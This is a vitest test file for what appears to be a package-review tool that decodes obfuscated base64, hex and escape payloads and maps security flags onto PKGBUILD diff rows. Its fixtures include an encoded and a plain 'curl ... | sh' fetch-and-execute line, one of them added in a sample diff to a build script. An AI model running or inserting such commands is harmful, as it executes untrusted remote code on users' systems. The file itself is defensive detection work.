import { describe, expect, it } from 'vitest';
import { anchorRowInDiff, decodePayloads, flagAnchor } from './payload.js';
import { sha } from './fixtures/helpers.js';

describe('decodePayloads', () => {
  it('decodes base64, hex and escape chains into printable previews with offsets', () => {
    const line = `echo Y3VybCAtcyBodHRwczovL3gueS96IHwgc2g= | base64 -d | sh; printf '\\x63\\x75\\x72\\x6c'; x=6375726c202d732068747470733a2f2f`;
    const found = decodePayloads(line);
    expect(found.map((p) => [p.encoding, p.preview])).toEqual([
      ['base64', 'curl -s https://x.y/z | sh'],
      ['escapes', 'curl'],
      ['hex', 'curl -s https://'],
    ]);
    expect(line.slice(found[0]!.start, found[0]!.end)).toBe('Y3VybCAtcyBodHRwczovL3gueS96IHwgc2g=');
  });

  it('leaves checksums, words and paths alone unless binary is asked for, and stays bounded', () => {
    expect(decodePayloads(`sha256sums=('${sha('x')}')`)).toEqual([]);
    expect(decodePayloads(`sha256sums=('${sha('x')}')`, { includeBinary: true })[0]).toMatchObject({ encoding: 'hex', bytes: 32 });
    expect(decodePayloads('install -Dm644 "$srcdir/usr/share/applications/Application.desktop"')).toEqual([]);
    const big = Buffer.from('curl https://x.y; '.repeat(5000)).toString('base64');
    const [p] = decodePayloads(`x=${big}`, { maxPreview: 50 });
    expect(p).toMatchObject({ encoding: 'base64', truncated: true });
    expect(p!.preview).toHaveLength(50);
    expect(decodePayloads('a'.repeat(1_000_000)).length).toBeLessThanOrEqual(4);
  });
});

describe('flag anchors', () => {
  const diff = [
    'diff --git a/PKGBUILD b/PKGBUILD',
    'index 1111111..2222222 100644',
    '--- a/PKGBUILD',
    '+++ b/PKGBUILD',
    '@@ -10,3 +10,4 @@ package() {',
    '   cd "$pkgname"',
    '-  make install',
    '+  make DESTDIR="$pkgdir" install',
    '+  curl -s https://x.y | sh',
    ' }',
    'diff --git a/x.install b/x.install',
    'new file mode 100644',
    '--- /dev/null',
    '+++ b/x.install',
    '@@ -0,0 +1,2 @@',
    '+post_install() {',
    '+}',
  ].join('\n');

  it('places a flag on its diff row, and reports lines outside the hunks as null', () => {
    expect(anchorRowInDiff(diff, { file: 'PKGBUILD', line: 12 })).toBe(8);
    expect(anchorRowInDiff(diff, { file: 'PKGBUILD', line: 10 })).toBe(5);
    expect(anchorRowInDiff(diff, { file: 'x.install', line: 2 })).toBe(16);
    expect(anchorRowInDiff(diff, { file: 'PKGBUILD', line: 40 })).toBeNull();
    expect(anchorRowInDiff(diff, { file: 'other', line: 1 })).toBeNull();
  });

  it('derives anchors from flags', () => {
    expect(flagAnchor({ check: 'x', severity: 'high', reason: 'r', file: 'PKGBUILD', line: 3, commit: 'abc' })).toEqual({
      file: 'PKGBUILD',
      line: 3,
      commit: 'abc',
    });
    expect(flagAnchor({ check: 'maintainer-change', severity: 'high', reason: 'r' })).toBeNull();
  });
});
